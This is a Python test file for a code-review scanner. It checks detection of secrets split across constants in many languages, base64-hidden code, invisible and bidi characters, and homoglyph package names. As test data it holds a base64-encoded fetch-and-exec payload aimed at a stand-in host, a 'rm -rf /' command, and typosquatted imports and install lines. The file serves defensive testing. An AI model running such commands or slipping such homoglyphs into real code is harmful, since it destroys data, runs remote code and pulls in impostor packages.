"""Texts that a change puts together from constants, in many languages, and characters that nobody sees."""

import base64

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from council.agents.lite import Lite
from council.agents.mind import Case
from council.agents.scan import hidden
from council.agents.scan.action import Argument
from council.agents.scan.change import FileChange, read_changes
from council.agents.scan.constants import STEPS_MAX, Folded, _Reader, findings, fold
from council.agents.scan.texts import written
from tests.examples import at_first, tried

KEY = "AKIA" + "Q7ZK3NVX2LMPT5RW"
A, B = KEY[:4], KEY[4:]
ENCODED, HEX = base64.b64encode(KEY.encode()).decode(), KEY.encode().hex()


def added(path: str, text: str) -> FileChange:
    return written(Argument("content", text, path))


def texts(path: str, text: str) -> set[str]:
    return {one.text for one in fold([added(path, text)])}


PROGRAMS = [
    ("a.py", f'k = "{A}" + "{B}"'),
    ("a.py", f"k = ('{A}'\n     '{B}')"),
    ("a.py", f'PARTS = ["{A}", "{B[:5]}", "{B[5:]}"]\nk = "".join(PARTS)'),
    ("a.py", f'a = "{A}"\nb = "{B}"\nk = f"{{a}}{{b}}"'),
    ("a.py", f'k = base64.b64decode("{ENCODED}").decode()'),
    ("a.py", f'k = b64decode(b"{ENCODED[:9]}" + b"{ENCODED[9:]}")'),
    ("a.py", f'k = bytes.fromhex("{HEX}")'),
    ("a.py", f'k = codecs.decode("{HEX}", "hex")'),
    ("a.py", f'k = "{A}"\nk += "{B}"'),
    ("a.py", f"def f():\n    return connect(region, key='{A}' '{B}')"),
    ("a.js", f"const k = \"{A}\" + '{B}';"),
    ("a.js", f"const k =\n  '{A}' +\n  '{B}'; // joined"),
    ("a.js", f'const k = atob("{ENCODED}");'),
    ("a.ts", f'const k: string = Buffer.from("{ENCODED}", "base64").toString();'),
    ("a.ts", f'const a = "{A}", b = "{B}";\nconst k = `${{a}}${{b}}`;'),
    ("a.js", f'const k = ["{A}", "{B}"].join("");'),
    ("a.php", f'$a = "{A}";\n$k = $a . "{B}";'),
    ("a.php", f'$k = base64_decode("{ENCODED}");'),
    ("a.php", f'$k = implode("", array("{A}", "{B}"));'),
    ("a.go", f'k, _ := base64.StdEncoding.DecodeString("{ENCODED}")'),
    ("a.go", f'k, _ := hex.DecodeString("{HEX}")'),
    ("a.go", f'k := strings.Join([]string{{"{A}", "{B}"}}, "")'),
    ("A.java", f'String k = new String(Base64.getDecoder().decode("{ENCODED}"));'),
    ("A.java", f'String k = String.join("", "{A}", "{B}");'),
    ("A.java", f'String k = "{A}"\n    + "{B}";'),
    ("a.rb", f'a = "{A}"\nk = "#{{a}}{B}"'),
    ("a.rb", f'k = ["{A}", "{B}"].join'),
    ("a.rb", f'k = Base64.decode64("{ENCODED}")'),
    ("A.cs", f'var k = Encoding.UTF8.GetString(Convert.FromBase64String("{ENCODED}"));'),
    ("A.cs", f'var a = "{A}"; var k = $"{{a}}{B}";'),
    ("A.kt", f'val k = listOf("{A}", "{B}").joinToString("")'),
]


@pytest.mark.parametrize(("path", "text"), PROGRAMS, ids=range(len(PROGRAMS)))
def test_a_constant_is_folded_and_its_secret_found(path: str, text: str) -> None:
    change = added(path, text)
    folded = fold([change])
    assert KEY in {one.text for one in folded}
    (found,) = [one for one in findings([change], folded) if one.rule == "secret-aws-access-key"][:1]
    assert (found.path, found.weight) == (path, "stop")
    assert KEY not in repr(found)


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("a.py", f'k = "{A}" + read() + "{B}"'),
        ("a.py", f'k = f"{A}{{nowhere}}{B}"'),
        ("a.py", f'# "{A}" + "{B}"'),
        ("a.js", f'// "{A}" + "{B}"'),
        ("a.py", f'a = "{A}"\na = read()\nk = a + "{B}"'),
        ("a.py", f'["{A}", "{B}"]'),
        ("a.py", 'k = b64decode("not base64!")'),
    ],
)
def test_what_is_not_constant_is_left_out(path: str, text: str) -> None:
    assert KEY not in texts(path, text)


def test_a_constant_of_one_file_is_known_in_the_others() -> None:
    keys, app = (
        added("keys.py", f'PART_A = "{A}"'),
        added("app.py", f'from .keys import PART_A\nk = PART_A + "{B}"'),
    )
    for files in ([keys, app], [app, keys]):
        assert Folded("app.py", 2, KEY, "k") in fold(files)


def test_only_what_the_change_touches_is_folded() -> None:
    diff = f"--- a/a.py\n+++ b/a.py\n@@ -1,3 +1,4 @@\n a = '{A}'\n b = '{B}'\n k = a + b\n+x = 1\n"
    assert fold(read_changes(diff).files) == []
    touched = diff.replace(f" b = '{B}'", f"+b = '{B}'").replace("+x", " x")
    assert [(one.line, one.text) for one in fold(read_changes(touched).files)] == [(3, KEY)]


def test_hidden_code_and_a_name_that_makes_a_secret_are_found() -> None:
    code = base64.b64encode(b"import socket; exec(fetch('https://a.corp.io'))").decode()
    change = added("a.py", f'x = b64decode("{code}")\npassword = "S3cr3t-" + "Passw0rd!"')
    rules = {(one.rule, one.weight, one.line) for one in findings([change], fold([change]))}
    assert rules == {("constant-hidden-code", "ask", 1), ("secret-named-secret", "stop", 2)}


@pytest.mark.parametrize("path", at_first(1, "a.py", "a.js"))
@pytest.mark.parametrize(
    "text",
    [
        '"a"+',
        "[",
        '["a",',
        '"\\',
        "'\"`",
        "a(b(",
        'A="a"+A\n',
        "A=A+A\n",
        '"%s"%',
        'f"{a}"',
        '"a".join(',
        "a(1,",
        "a.",
    ],
)
def test_hostile_text_is_folded_in_a_bound_of_steps(path: str, text: str) -> None:
    long = text * (64_000 // len(text))
    lines = long if "\n" in long else "\n".join(long[at : at + 999] for at in range(0, len(long), 999))
    change = added(path, lines)
    reader = _Reader(path, [(number, line, True) for number, line in change.added])
    assert reader.run({}, STEPS_MAX) > -1_000
    assert STEPS_MAX - reader.steps <= 12 * len(reader.tokens)
    fold([change])


@settings(max_examples=tried(200), deadline=None)
@given(st.text(alphabet="\"'`+.%()[]{}=ab1\\\n,:#/$ ", max_size=300))
def test_any_text_is_folded(text: str) -> None:
    for path in ("a.py", "a.js"):
        assert all(1 <= one.line <= text.count("\n") + 1 for one in fold([added(path, text)]))


def rules(path: str, text: str) -> set[tuple[str, str]]:
    return {(one.rule, one.weight) for one in hidden.findings([added(path, text)])}


@pytest.mark.parametrize(
    ("path", "text", "found"),
    [
        ("a.py", "if x:  # \u202e begin", ("text-bidi", "stop")),
        ("a.js", "/* \u2066 */ admin", ("text-bidi", "stop")),
        ("a.py", "x = '\u200e'", ("text-bidi", "ask")),
        ("a.py", "x = 'a\U000e0041\U000e0042'", ("text-invisible", "stop")),
        ("README.md", "See \U000e0041\U000e0042", ("text-invisible", "ask")),
        ("a.js", "const s = '\ufe00\ufe01\ufe02\ufe03'", ("text-invisible", "stop")),
        ("a.py", "pass\u200bword = 1", ("text-invisible", "ask")),
        ("a.js", "const {timeout,\u3164} = req", ("text-invisible", "ask")),
        ("a.py", "is_\u0430dmin = True", ("text-mixed-script", "ask")),
        ("a.py", "import r\u0435quests", ("text-mixed-script", "stop")),
        ("a.js", "require('l\u043edash')", ("text-mixed-script", "stop")),
        ("a.py", "get('https://p\u0430ypal.com/')", ("text-mixed-script", "stop")),
        ("Dockerfile", "FROM pyth\u043en:3", ("text-mixed-script", "stop")),
        ("a.sh", "pip install req\uff55ests", ("text-mixed-script", "stop")),
    ],
)
def test_hidden_characters_are_found(path: str, text: str, found: tuple[str, str]) -> None:
    assert rules(path, text) == {found}


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("a.py", "x = 'Привет, мир'"),
        ("a.py", "# Проверка PDFов и имён"),
        ("a.py", "Δt = μ * σ_x"),
        ("a.py", "x = '👨\u200d👩\u200d👧 ❤\ufe0f'"),
        ("a.py", "flag = '\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f'"),
        ("a.py", "x = 'می\u200cخواهم'"),
        ("a.py", "\ufeffimport os"),
        ("locale/he/messages.po", 'msgstr "\u202bשלום\u202c"'),
        ("docs/ar.md", "\u200fمرحبا"),
        ("a.py", "x = '\\u202e'"),
        ("a.py", "name = 'Zoë Müller'"),
    ],
)
def test_other_scripts_where_they_are_at_home_are_not(path: str, text: str) -> None:
    assert rules(path, text) == set()


def test_a_line_that_had_it_before_is_not_found() -> None:
    diff = "--- a/a.py\n+++ b/a.py\n@@ -1 +1 @@\n-x = '\u202e'\n+y = '\u202e'\n"
    assert hidden.findings(read_changes(diff).files) == []


@pytest.mark.parametrize(
    ("text", "vote"),
    [
        (f'k = "{A}" + "{B}"', "no"),
        ('run("rm -rf " + "/")', "no"),
        ("import r\u0435quests", "no"),
        ('run("ls " + "/tmp")', "yes"),
    ],
)
def test_lite_votes_by_them(text: str, vote: str) -> None:
    lines = text.split("\n")
    diff = f"--- /dev/null\n+++ b/a.py\n@@ -0,0 +1,{len(lines)} @@\n" + "".join(
        f"+{line}\n" for line in lines
    )
    assert Lite().review(Case("p", "client", "Add it", diff)).vote == vote
